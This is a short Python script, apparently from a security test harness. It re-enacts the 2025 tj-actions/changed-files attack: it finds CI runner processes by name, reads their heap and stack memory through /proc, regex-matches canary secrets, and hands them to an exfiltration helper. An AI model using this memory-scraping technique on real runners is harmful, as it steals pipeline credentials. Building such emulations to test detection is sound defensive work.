# tj-actions/changed-files (2025): read a CI runner's memory through /proc/<pid>/mem and
# pick the secrets out of it. The target is found by name, as the real attack found
# Runner.Worker.
import re
from pylib import cfg, found, exfil, did, note, processes_named, finish

CANARY = re.compile(rb'spc-[a-z0-9]+-[0-9a-f]{16}')
loot = set()
for pid in processes_named(cfg['params']['target']):
    try:
        with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as mem:
            did('opened-mem')
            for line in maps:
                fields = line.split()
                if len(fields) < 2 or not fields[1].startswith('rw'):
                    continue
                if len(fields) >= 6 and fields[5] not in ('[heap]', '[stack]'):
                    continue
                start, end = (int(x, 16) for x in fields[0].split('-'))
                try:
                    mem.seek(start)
                    chunk = mem.read(end - start)
                except OSError:
                    continue
                loot.update(CANARY.findall(chunk))
    except OSError as e:
        note(f'{pid}: {e.strerror}')
if loot:
    data = b'\n'.join(sorted(loot))
    found(data)
    exfil(data)
finish()
